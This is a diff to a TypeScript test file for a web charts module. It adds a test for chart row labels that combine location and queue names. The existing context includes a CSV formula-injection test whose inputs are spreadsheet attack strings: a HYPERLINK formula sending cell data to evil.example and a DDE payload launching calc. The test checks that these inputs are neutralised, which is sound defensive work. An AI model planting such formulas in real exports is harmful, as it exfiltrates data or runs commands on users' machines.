@@ -1,7 +1,7 @@
 import { describe, expect, test } from 'bun:test'
 import { ChartAggregator, quantileCont } from '../../src/web/charts/aggregate.ts'
 import { CsvRecords, instantMs } from '../../src/web/charts/csv-rows.ts'
-import { numbersTables, tableCsv, weeklyTable } from '../../src/web/charts/tables.ts'
+import { numbersTables, placeLabel, tableCsv, weeklyTable } from '../../src/web/charts/tables.ts'
 import { csvCell } from '../../src/web/csv-cells.ts'
 import { LocalClock, canonicalTimeZone, dayKey, dayNumber, describeOffset, weekday } from '../../src/web/zone.ts'
 import { readRange } from '../../src/web/range.ts'
@@ -137,5 +137,13 @@ describe('quantiles and tables', () => {
   test('no cell of a CSV the page writes starts a formula (OWASP): =, +, -, @, tab, CR get a leading apostrophe', () => {
     const names = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\tx', '\rx', 'Plain']
     expect(names.map(csvCell)).toEqual(['"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"', "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3", "'\tx", '"\'\rx"', 'Plain'])
+  })
+})
+
+describe('a row label in a chart', () => {
+  test('a queue is named with its location; a location row, or the rest, by its one name (no trailing separator)', () => {
+    expect(placeLabel({ location: 'Lyon Old Town', queue: 'Walk-ins' })).toBe('Lyon Old Town · Walk-ins')
+    expect(placeLabel({ location: 'Lyon Old Town', queue: '' })).toBe('Lyon Old Town')
+    expect(placeLabel({ location: '', queue: 'Other 18 locations' })).toBe('Other 18 locations')
   })
 })
